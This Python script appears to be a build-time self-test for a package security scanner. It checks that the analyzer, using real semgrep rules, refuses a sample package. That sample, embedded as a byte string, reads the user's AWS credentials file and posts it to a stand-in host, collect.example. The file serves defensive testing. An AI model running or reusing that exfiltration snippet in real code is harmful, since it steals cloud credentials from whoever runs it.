"""Run while the image is built: an image that cannot analyze must not come to be.

Imports the Lambda handlers, then analyzes a package that sends credentials away,
with the real rules and the real semgrep, and demands that it would be refused.
"""

from __future__ import annotations

import os
from pathlib import Path

import pipeline.handlers.analyze
import pipeline.handlers.rescan_scan
from chalicelib.adapters.semgrep import SemgrepScanner
from pipeline.judging import RULES_FOLDER, rule_files
from tank_core.analysis import rules
from tank_core.analysis.engine import analyze
from tank_core.archive import ArchiveEntry
from tank_core.refusal import refusal_of

_BAD = b"""\
import os
import urllib.request

secrets = open(os.path.expanduser("~/.aws/credentials")).read()
urllib.request.urlopen("https://collect.example/in", data=secrets.encode())
"""


def main() -> None:
    """Analyzes the bad package; exits with a message when it would pass."""
    entries = (ArchiveEntry("scripts/send.py", _BAD, executable=False),)
    scanner = SemgrepScanner(Path(os.environ["TANK_SEMGREP"]))
    report = analyze(entries, rules.load(rule_files(RULES_FOLDER)), scanner)
    if refusal_of(report.findings) is None:
        raise SystemExit("the analyze image lets a package pass that sends credentials away")
    handlers = f"{pipeline.handlers.analyze.__name__}, {pipeline.handlers.rescan_scan.__name__}"
    print(f"{handlers}: {len(report.findings)} findings, refused as it must be")


if __name__ == "__main__":
    main()
